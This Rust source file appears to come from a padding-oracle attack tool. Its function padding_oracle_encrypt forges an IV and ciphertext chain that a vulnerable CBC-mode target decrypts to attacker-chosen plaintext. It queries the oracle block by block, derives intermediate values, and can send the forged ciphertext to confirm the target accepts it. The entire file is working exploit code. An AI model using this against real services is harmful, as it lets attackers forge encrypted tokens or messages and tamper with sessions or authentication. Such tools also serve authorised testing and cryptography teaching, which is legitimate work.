// Forging ciphertext for a chosen plaintext through a padding oracle.
//
// Work backwards from a last ciphertext block C_n that we pick ourselves. The
// oracle gives us its intermediate block I_n = D(C_n), and for the last
// plaintext block P_n we need
//
//                      C_{n-1} = I_n ⊕ P_n.
//
// C_{n-1} is now a block like any other, so we learn I_{n-1} the same way,
// set C_{n-2} = I_{n-1} ⊕ P_{n-1}, and so on. The block left at the front
// acts as the IV, which the target is assumed to accept as sent.
use crate::{
    pkcs7_pad,
    probe::{check_block_size, BlockProbe, IntermediateBlock},
    Error, OracleCaller, Predicate, Transport,
};

use rand::RngCore;
use tracing::{info, warn};

#[derive(Debug, Clone)]
pub struct EncryptOptions {
    pub block_size: usize,
    /// Block the forged chain ends with. Random when not given.
    pub last_ciphertext_block: Option<Vec<u8>>,
    /// Send the forged ciphertext once and warn if the predicate does not
    /// call its padding valid.
    pub make_final_request: bool,
}

impl EncryptOptions {
    pub fn new(block_size: usize) -> Self {
        Self {
            block_size,
            last_ciphertext_block: None,
            make_final_request: true,
        }
    }
}

/// Forge `iv || ciphertext` that the target decrypts to `plaintext`
/// (PKCS#7 padded here).
pub async fn padding_oracle_encrypt<T: Transport + Sync>(
    oracle: &OracleCaller<T>,
    predicate: &Predicate,
    plaintext: &[u8],
    options: &EncryptOptions,
) -> Result<Vec<u8>, Error> {
    let block_size = check_block_size(options.block_size)?;
    let last_block = match &options.last_ciphertext_block {
        Some(block) if block.len() != block_size => {
            return Err(Error::UnalignedInput {
                len: block.len(),
                block_size,
            })
        }
        Some(block) => block.clone(),
        None => {
            let mut block = vec![0u8; block_size];
            rand::thread_rng().fill_bytes(&mut block);
            block
        }
    };
    let padded = pkcs7_pad(plaintext, block_size as u8);
    let plaintext_blocks: Vec<&[u8]> = padded.chunks(block_size).collect();

    let probe = BlockProbe::new(oracle, predicate);
    let zeros = vec![0u8; block_size];
    let mut forged = vec![last_block.clone()];
    let mut current = last_block;
    for (index, plaintext_block) in plaintext_blocks.iter().enumerate().rev() {
        // `current` sits at index + 1 in the finished chain.
        let intermediate = probe
            .solve_block(index + 1, &zeros, &current, IntermediateBlock::new(block_size))
            .await?;
        let previous: Vec<u8> = intermediate
            .bytes()
            .iter()
            .zip(plaintext_block.iter())
            .map(|(i, p)| i ^ p)
            .collect();
        info!(block = index, "forged {}", hex::encode(&previous));
        forged.push(previous.clone());
        current = previous;
    }
    forged.reverse();
    let ciphertext = forged.concat();

    if options.make_final_request {
        let result = oracle.call_oracle(&ciphertext).await?;
        if !predicate.is_hit(&result) {
            warn!(
                "the forged ciphertext is not reported as valid (status {}); \
                 the target may not accept a chosen IV",
                result.status
            );
        }
    }

    Ok(ciphertext)
}
